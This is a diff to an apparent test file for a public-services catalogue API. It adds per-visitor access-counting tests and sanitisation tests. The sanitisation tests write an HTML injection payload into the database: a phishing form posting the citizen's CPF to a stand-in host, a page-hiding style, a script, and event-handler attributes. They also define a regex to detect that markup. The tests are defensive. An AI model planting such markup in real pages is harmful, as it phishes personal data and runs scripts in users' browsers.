@@ -1,3 +1,4 @@
+import { sql } from 'drizzle-orm';
 import { PDFDocument } from 'pdf-lib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp } from '../../test-support/app.ts';
@@ -39,10 +40,24 @@ describe('GET /v1/catalog/{slug}/load', () => {
     expect(['BRONZE', 'PRATA', 'OURO', 'OPALA']).toContain(item.accessProfile.name);
   });
 
-  it('counts each access for "mais acessados"', async () => {
-    const first = (await t.app.inject({ url: '/v1/catalog/historico-escolar/load' })).json();
-    const second = (await t.app.inject({ url: '/v1/catalog/historico-escolar/load' })).json();
+  it('counts each visitor\'s access for "mais acessados"', async () => {
+    const first = (await t.app.inject({ url: '/v1/catalog/historico-escolar/load', remoteAddress: '10.3.0.1' })).json();
+    const second = (await t.app.inject({ url: '/v1/catalog/historico-escolar/load', remoteAddress: '10.3.0.2' })).json();
     expect(second.access_counter).toBe(first.access_counter + 1);
+  });
+
+  it('counts one view per address and service in an hour: reloading, even all at once, cannot move the ranking', async () => {
+    const load = (remoteAddress: string, slug = 'disque-denuncia') => t.app.inject({ url: `/v1/catalog/${slug}/load`, remoteAddress });
+    const before = (await load('10.3.1.1')).json().access_counter;
+    const reloads = await Promise.all(Array.from({ length: 20 }, () => load('10.3.1.2')));
+    expect(reloads.map((r) => r.statusCode)).toEqual(Array(20).fill(200));
+    const after = (await load('10.3.1.3')).json().access_counter;
+    expect(after).toBe(before + 2);
+    expect((await load('10.3.1.1')).json().access_counter).toBe(after);
+    expect((await load('10.3.1.2')).json().access_counter).toBe(after);
+    // The same address viewing another service counts there.
+    const other = (await load('10.3.1.9', 'historico-escolar')).json().access_counter;
+    expect((await load('10.3.1.2', 'historico-escolar')).json().access_counter).toBe(other + 1);
   });
 
   it('answers 404 in Portuguese for an unknown service', async () => {
@@ -75,5 +90,50 @@ describe('GET /v1/catalog/{slug}/pdf', () => {
     const res = await t.app.inject({ url: '/v1/catalog/nao-existe/pdf' });
     expect(res.statusCode).toBe(404);
     expect(res.headers['content-type']).toMatch(/application\/json/);
+  });
+});
+
+describe('rich text written straight into the database', () => {
+  // What an import, a script or an older back office could leave in a row: markup that posts the
+  // citizen's data elsewhere, restyles the page or runs. The seed sanitises; a direct write does not.
+  const RAW =
+    '<p>Antes</p><form action="https://golpe.example/coleta" method="post"><input name="cpf"><button>Enviar CPF</button></form>' +
+    '<style>body{display:none}</style><script>alert(1)</script><img src="x" onerror="alert(1)"><p onclick="alert(2)" style="color:red">Depois</p>';
+  const DANGER = /<form|action=|<input|<button|<style|display:none|<script|alert\(|onerror|onclick|<img|style=/i;
+  const SLUG = 'servico-gravado-direto';
+
+  beforeAll(async () => {
+    await t.app.db.execute(sql`
+      insert into services (slug, title, description, category_id, department_id, access_profile_id, result_category_id, platforms)
+      select ${SLUG}, 'Serviço gravado direto no banco', ${RAW}, category_id, department_id, access_profile_id, result_category_id, platforms
+      from services where slug = 'renovacao-da-cnh'`);
+    await t.app.db.execute(sql`
+      insert into service_steps (service_id, order_index, name, description, channel, html_content)
+      select id, 1, 'Acesse o site', 'Passo único', 'online', ${RAW} from services where slug = ${SLUG}`);
+    await t.app.db.execute(sql`
+      insert into service_info (service_id, order_index, title, text, icon)
+      select id, 1, 'Observações', ${RAW}, 'info' from services where slug = ${SLUG}`);
+    await t.app.db.execute(sql`select refresh_service_search(null)`);
+  });
+
+  it('comes out of GET /v1/catalog/{slug}/load with none of the injected form, style, script or handlers', async () => {
+    const res = await t.app.inject({ url: `/v1/catalog/${SLUG}/load` });
+    expect(res.statusCode).toBe(200);
+    const item = res.json();
+    for (const html of [item.description, item.steps[0].htmlContent, item.info[0].text]) {
+      expect(html).not.toMatch(DANGER);
+      expect(html).toBe('<p>Antes</p>Enviar CPF<p>Depois</p>');
+    }
+    expect(res.body).not.toMatch(DANGER);
+  });
+
+  it('comes out of the search cards and the PDF sheet sanitised too', async () => {
+    const search = await t.app.inject({ method: 'POST', url: '/v1/search', payload: { slugs: [SLUG] } });
+    expect(search.statusCode).toBe(200);
+    expect(search.body).toContain(SLUG);
+    expect(search.body).not.toMatch(DANGER);
+    const pdf = await t.app.inject({ url: `/v1/catalog/${SLUG}/pdf` });
+    expect(pdf.statusCode).toBe(200);
+    expect(pdf.rawPayload.toString('latin1')).not.toMatch(/alert|golpe\.example|display:none/);
   });
 });
